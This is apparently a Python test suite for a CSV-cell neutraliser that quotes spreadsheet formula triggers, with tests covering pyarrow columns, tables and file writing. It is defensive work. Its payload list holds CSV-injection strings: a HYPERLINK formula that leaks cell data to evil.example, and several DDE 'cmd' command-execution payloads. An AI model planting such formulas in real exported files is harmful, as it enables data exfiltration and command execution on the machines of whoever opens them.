"""CSV cells: text a spreadsheet would run as a formula is quoted; numbers and plain text are left alone."""

from __future__ import annotations

import csv
from pathlib import Path

import pyarrow as pa
import pyarrow.parquet as pq
import pytest
from hypothesis import given
from hypothesis import strategies as st

from fimihub.csvcells import FORMULA_TRIGGERS, QUOTE, neutralise, neutralise_column, neutralise_table
from fimihub.hub.tables import write_table

#: Payloads of CSV injection write-ups (OWASP, CWE-1236), each in a text cell.
PAYLOADS = [
    '=HYPERLINK("https://evil.example/?leak="&A1,"open")',
    "=cmd|' /C calc'!A0",
    "+SUM(1,2)",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "-",
    "=",
    "-12\n",
    "-1e3",
]


def safe(cell: str) -> bool:
    """What a spreadsheet will not run: no trigger first, unless the cell is a plain negative number."""
    if not cell or cell[0] not in FORMULA_TRIGGERS:
        return True
    try:
        float(cell)
    except ValueError:
        return False
    return cell[0] == "-" and cell[1:].replace(".", "", 1).isdigit() and cell[1:].isascii()


@pytest.mark.parametrize("payload", PAYLOADS)
def test_formulas_are_quoted(payload: str) -> None:
    assert neutralise(payload) == QUOTE + payload


@pytest.mark.parametrize(
    "plain", ["", "ok", "x:12345", "'=already quoted", " =1", "1+1", "12", "https://a.b"]
)
def test_plain_text_is_left_alone(plain: str) -> None:
    assert neutralise(plain) == plain


@pytest.mark.parametrize("number", ["-12", "-1001234567890", "-0.5", "-007"])
def test_plain_negative_numbers_are_left_alone(number: str) -> None:
    # A spreadsheet reads these as numbers and runs nothing; Telegram channel ids look like the second one.
    assert neutralise(number) == number


@given(st.text())
def test_every_cell_comes_out_safe_and_recoverable(cell: str) -> None:
    out = neutralise(cell)
    assert safe(out)
    assert out == cell or out == QUOTE + cell


@given(st.text(alphabet=st.sampled_from("=+-@\t\r'0123456789.xe \n٣"), max_size=8))
def test_the_arrow_kernel_agrees_with_the_python_rule(cell: str) -> None:
    for kind in (pa.string(), pa.large_string(), pa.string_view()):
        column = neutralise_column(pa.array([cell, None], kind))
        assert column.type == kind
        assert column.to_pylist() == [neutralise(cell), None]


@given(st.lists(st.text() | st.none(), max_size=20))
def test_columns_agree_with_the_python_rule(cells: list[str | None]) -> None:
    column = neutralise_column(pa.chunked_array([pa.array(cells, pa.string())], pa.string()))
    assert column.to_pylist() == [None if c is None else neutralise(c) for c in cells]


def test_tables_keep_their_schema_and_numbers() -> None:
    table = pa.table(
        {
            "account": pa.array(["=1+1", "ok", None, "-7"], pa.string()),
            "label": pa.array(["@x", "+y", "z", "-w"]).dictionary_encode(),
            "raw": pa.array([b"=1", b"a", b"-3", b"@"], pa.binary()),
            "community": pa.array([-1, 2, -3, 0], pa.int64()),
            "score": pa.array([-0.5, 1.0, 0.0, -2.25]),
            "=name": pa.array(["a", "b", "c", "d"]),
        }
    )
    out = neutralise_table(table)
    assert out.column_names == ["account", "label", "raw", "community", "score", "'=name"]
    assert [f.type for f in out.schema] == [f.type for f in table.schema]
    assert out.column("account").to_pylist() == ["'=1+1", "ok", None, "-7"]
    assert out.column("label").to_pylist() == ["'@x", "'+y", "z", "'-w"]
    assert out.column("raw").to_pylist() == [b"'=1", b"a", b"-3", b"'@"]
    assert out.column("community") == table.column("community")
    assert out.column("score") == table.column("score")
    untouched = pa.table({"a": ["x", "y"], "n": [1, 2]})
    assert neutralise_table(untouched).equals(untouched)


@pytest.mark.parametrize("suffix", [".csv", ".tsv"])
def test_write_table_neutralises_csv_and_leaves_parquet_alone(tmp_path: Path, suffix: str) -> None:
    table = pa.table({"text": PAYLOADS, "n": list(range(-6, len(PAYLOADS) - 6))})
    path = write_table(table, tmp_path / f"out{suffix}")
    with path.open(newline="", encoding="utf-8") as f:
        rows = list(csv.reader(f, delimiter="\t" if suffix == ".tsv" else ","))
    assert rows[0] == ["text", "n"]
    assert [r[0] for r in rows[1:]] == [QUOTE + p for p in PAYLOADS]
    assert [int(r[1]) for r in rows[1:]] == table.column("n").to_pylist()
    assert pq.read_table(write_table(table, tmp_path / "out.parquet")).equals(table)
